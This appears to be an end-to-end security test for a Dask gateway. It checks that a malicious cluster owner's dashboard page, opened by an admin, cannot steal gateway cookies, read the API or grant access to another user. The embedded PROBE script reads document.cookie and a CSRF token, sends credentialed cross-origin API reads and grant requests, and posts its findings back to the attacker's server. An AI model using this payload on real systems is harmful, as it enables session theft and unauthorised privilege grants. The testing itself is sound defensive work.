// A hostile dashboard opened by an admin, in Debian Chromium against a real Gatehouse running
// real Dask clusters (issue 14, findings 2 and 3).
//
// bob owns a cluster and, as any owner may, runs code on its scheduler (run_on_scheduler, see
// e2e/hostile_dashboard.py): he stops the Bokeh server and serves his own page on the same
// dashboard port, recording every request's headers. The admin, logged in through the UI, opens
// bob's `cluster.dashboard_link`. The page's script (PROBE below) reads document.cookie, tries to
// read an authenticated API answer and to grant mallory access, both against the gateway's origin
// and against its own, and posts what it found back to bob's server. The test asserts that no
// gateway cookie or credential header reached bob's server, that the script got no API data and
// changed nothing (mallory has no grant afterwards, read back through the API), and that the
// cookie bob's page set did not land in the gateway's origin.
// Positive control: the same PROBE run in the gateway's own origin (the admin's UI tab) reads the
// API and grants trudy. In the same test, alice's real cluster (two workers) shows its Workers
// page live through its dashboard link in the admin's browser with no extra step.
// Then, with no dashboard domain, a browser reaching the gateway by a real name
// (gatehouse.test) is refused dashboards with what to configure; and a second gateway with
// proxy.dashboard_domain (dash.test) sends the link to <cluster>.dash.test, where Bokeh renders
// and nothing but that dashboard is served.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { api, launchChromium, startGatehouse, until } from './gatehouse.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const python = path.join(here, '..', '.venv', 'bin', 'python');
const T = 240_000; // generous: two shared cores start Dask processes slowly

/** What a hostile page tries, as an async function of (gateway base URL, user to grant). */
const PROBE = `async (base, target) => {
  const out = { origin: location.origin, cookie: document.cookie };
  const csrf = (document.cookie.match(/(?:^|; )gatehouse-csrf=([^;]*)/) || [])[1] || '';
  for (const [key, b] of [['gateway', base], ['own', '']]) {
    const r = {};
    try {
      const res = await fetch(b + '/api/v1/clusters/', { credentials: 'include' });
      r.read = { status: res.status, body: (await res.text()).slice(0, 400) };
    } catch (e) { r.read = { error: String(e) }; }
    try {
      const res = await fetch(b + '/api/v1/admin/grants/' + target, {
        method: 'PUT', credentials: 'include',
        headers: { 'X-Gatehouse-CSRF': csrf, 'X-Requested-With': 'XMLHttpRequest' },
      });
      r.write = { status: res.status };
    } catch (e) { r.write = { error: String(e) }; }
    out[key] = r;
  }
  return out;
}`;

let gh;
let browser;
let helper;
/** The clusters the helper started, and the file bob's server records requests in. */
let info;
let records;

/** The requests bob's server recorded so far. */
const lines = () =>
  existsSync(records)
    ? readFileSync(records, 'utf8')
        .trim()
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l))
    : [];

/** Starts the cluster helper; resolves with the line it prints once both clusters run. */
function startClusters(records, htmlFile) {
  helper = spawn(python, [path.join(here, 'hostile_dashboard.py'), gh.url, records, htmlFile], {
    stdio: ['pipe', 'pipe', 'inherit'],
  });
  return new Promise((resolve, reject) => {
    let buf = '';
    helper.stdout.on('data', (d) => {
      buf += d;
      if (buf.includes('\n')) resolve(JSON.parse(buf.split('\n')[0]));
    });
    helper.on('exit', (code) => reject(new Error(`cluster helper exited ${code}`)));
  });
}

/** Asserts that no request bob's server recorded carried a credential header or cookie. */
function assertNoCredentials(records) {
  for (const r of records)
    for (const h of Object.keys(r.headers).map((k) => k.toLowerCase()))
      assert.ok(
        !['authorization', 'cookie', 'proxy-authorization'].includes(h) &&
          !h.startsWith('x-gatehouse-'),
        `${r.method} ${r.path} reached bob's server with ${h}: ${JSON.stringify(r.headers)}`
      );
}

async function granted(user) {
  const users = (await api(gh.url, 'admin', 'GET', '/api/v1/admin/users')).body;
  return users.some((u) => u.name === user && u.granted);
}

describe('hostile dashboard', { timeout: 600_000 }, () => {
  before(async () => {
    gh = await startGatehouse({
      auth: { type: 'basic', password: null },
      access: {
        grant_all_authenticated: false,
        bootstrap_admin_token: false,
        admin_users: ['admin'],
      },
    });
    for (const u of ['alice', 'bob'])
      assert.equal((await api(gh.url, 'admin', 'PUT', `/api/v1/admin/grants/${u}`)).status, 204);
    // gatehouse.test: the gateway under a name that is not loopback, as a real host name is.
    // *.dash.test: the wildcard DNS name of a configured dashboard domain (last test).
    browser = await launchChromium([
      '--host-resolver-rules=MAP gatehouse.test 127.0.0.1, MAP *.dash.test 127.0.0.1',
    ]);
  });
  after(async () => {
    helper?.stdin.end();
    if (helper !== undefined && helper.exitCode === null)
      await until(() => helper.exitCode !== null, 120_000, 'cluster helper to exit').catch(() =>
        helper.kill()
      );
    await browser?.close();
    await gh?.stop();
  });

  it("an admin opens bob's hostile dashboard; alice's real one still works", async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'gatehouse-hostile-'));
    // bob's scheduler runs under a uid of its own: it must read the page and write its records.
    chmodSync(dir, 0o777);
    records = path.join(dir, 'records.jsonl');
    const htmlFile = path.join(dir, 'page.html');
    writeFileSync(
      htmlFile,
      `<!doctype html><title>bob's dashboard</title><p>hello</p><script>
(${PROBE})(${JSON.stringify(gh.url)}, 'mallory').then((o) =>
  fetch('report', { method: 'POST', body: JSON.stringify(o) }));
</script>`
    );
    info = await startClusters(records, htmlFile);

    const context = await browser.newContext({ viewport: { width: 1200, height: 800 } });
    const page = await context.newPage();
    await page.goto(`${gh.url}/`);
    await page.waitForURL(/\/ui\//);
    await page.getByLabel('Username').fill('admin');
    await page.getByLabel('Password').fill('secret');
    await page.getByRole('button', { name: 'Log in' }).click();
    await page.getByText('admin', { exact: false }).first().waitFor();

    // The admin opens bob's dashboard link; the page's script reports back to bob's server.
    const dash = await context.newPage();
    await dash.goto(info.hostile_link);
    // As soon as bob's server sees the page's request: no credential came with it.
    await until(() => lines().length > 0, T, "bob's server to see the page");
    assertNoCredentials(lines());
    const report = JSON.parse(
      (await until(() => lines().find((r) => r.report !== undefined), T, 'the page to report'))
        .report
    );
    console.log('hostile page found:', JSON.stringify(report));
    console.log('requests bob saw:', JSON.stringify(lines().map((r) => [r.path, r.headers])));

    assertNoCredentials(lines());
    assert.doesNotMatch(report.cookie, /gatehouse|dask-gateway/, 'the page read a gateway cookie');
    for (const where of ['gateway', 'own']) {
      const { read, write } = report[where];
      assert.notEqual(read.status, 200, `${where}: the page read ${JSON.stringify(read)}`);
      assert.ok(
        write.status === undefined || write.status >= 400,
        `${where}: grant ${JSON.stringify(write)}`
      );
    }
    assert.equal(await granted('mallory'), false, 'mallory was granted access');
    const planted = (await context.cookies(gh.url)).filter((c) => c.name === 'planted');
    assert.deepEqual(planted, [], "bob's Set-Cookie landed in the gateway's origin");

    // Positive control: the same probe, run in the gateway's own origin, reads and writes.
    const control = await page.evaluate(`(${PROBE})('', 'trudy')`);
    assert.equal(control.own.read.status, 200, JSON.stringify(control));
    assert.equal(control.own.write.status, 204, JSON.stringify(control));
    assert.equal(await granted('trudy'), true);

    // alice's real dashboard: the link opens it and the Workers page lists both workers, live.
    const workers = (
      await api(gh.url, 'alice', 'GET', `/api/v1/clusters/${info.real}/logs`)
    ).body.processes
      .filter((p) => p.kind === 'worker')
      .map((p) => p.name);
    assert.equal(workers.length, 2);
    const real = await context.newPage();
    const failed = [];
    real.on('requestfailed', (r) => failed.push(`${r.url()} ${r.failure()?.errorText ?? ''}`));
    real.on('response', (r) => {
      if (r.status() >= 400) failed.push(`${r.url()} ${r.status()}`);
    });
    await real.goto(info.real_link);
    await real.waitForLoadState('load');
    await real.getByRole('link', { name: 'Workers', exact: true }).first().click();
    await real.waitForURL(new RegExp(`/clusters/${info.real}/workers`));
    for (const w of workers) await real.getByText(w).first().waitFor({ timeout: T });
    console.log('real dashboard at', real.url());
    assert.match(
      new URL(real.url()).hostname,
      new RegExp(`^${info.real}\\.dashboards\\.localhost$`)
    );
    assert.deepEqual(failed, []);
    await context.close();
  });

  it('without a dashboard domain, a browser reaching the gateway by a real name is refused dashboards', async () => {
    // The same gateway, reached as http://gatehouse.test:<port>: no *.localhost host can serve
    // that browser, and no dashboard domain is configured, so the dashboard is refused with
    // what to configure, and bob's server never sees the request.
    const named = gh.url.replace('127.0.0.1', 'gatehouse.test');
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${named}/`);
    await page.waitForURL(/\/ui\//);
    await page.getByLabel('Username').fill('admin');
    await page.getByLabel('Password').fill('secret');
    await page.getByRole('button', { name: 'Log in' }).click();
    await page.getByText('admin', { exact: false }).first().waitFor();
    const before = lines().length;
    const res = await page.goto(`${named}/clusters/${info.hostile}/status`);
    assert.equal(res.status(), 403);
    assert.match(await page.content(), /proxy\.dashboard_domain/);
    assert.equal(lines().length, before, "bob's server saw the refused request");
    // Control: this browser is logged in there (the API answers it) and bob's server records
    // requests (it did in the test above).
    assert.equal((await page.goto(`${named}/api/v1/clusters/`)).status(), 200);
    assert.ok(before > 0);
    await context.close();
  });

  it('with proxy.dashboard_domain, the link leads to <cluster>.<domain> and the dashboard runs', async () => {
    // A second gateway as an operator would configure it on a real name: reached as
    // gatehouse.test, dashboards under dash.test (both mapped to 127.0.0.1 in Chromium).
    const other = await startGatehouse({
      auth: { type: 'basic', password: null },
      access: {
        grant_all_authenticated: false,
        bootstrap_admin_token: false,
        admin_users: ['admin'],
      },
      proxy: { dashboard_domain: 'dash.test' },
    });
    try {
      const created = await api(other.url, 'admin', 'POST', '/api/v1/clusters/', {});
      assert.equal(created.status, 201, JSON.stringify(created.body));
      const name = created.body.name;
      await until(
        async () =>
          (await api(other.url, 'admin', 'GET', `/api/v1/clusters/${name}`)).body.dashboard_route,
        T,
        'the dashboard route'
      );
      const named = other.url.replace('127.0.0.1', 'gatehouse.test');
      const context = await browser.newContext();
      const page = await context.newPage();
      await page.goto(`${named}/`);
      await page.waitForURL(/\/ui\//);
      await page.getByLabel('Username').fill('admin');
      await page.getByLabel('Password').fill('secret');
      await page.getByRole('button', { name: 'Log in' }).click();
      await page.getByText('admin', { exact: false }).first().waitFor();
      const failed = [];
      page.on('response', (r) => {
        if (r.status() >= 400) failed.push(`${r.url()} ${r.status()}`);
      });
      await page.goto(`${named}/clusters/${name}/status`);
      const port = new URL(other.url).port;
      await page.waitForURL(`http://${name}.dash.test:${port}/clusters/${name}/status`);
      // Bokeh renders the status document over its WebSocket on the dashboard host.
      await page.locator('.bk-Canvas, canvas').first().waitFor({ timeout: T });
      assert.deepEqual(failed, []);
      // The dashboard host serves that dashboard alone: no API, and no other cluster's host.
      const apiThere = await page.goto(`http://${name}.dash.test:${port}/api/v1/clusters/`);
      assert.equal(apiThere.status(), 404);
      const foreign = await page.goto(
        `http://${'f'.repeat(32)}.dash.test:${port}/clusters/${name}/status`
      );
      assert.ok([401, 403].includes(foreign.status()), String(foreign.status()));
      await context.close();
    } finally {
      await other.stop();
    }
  });
});
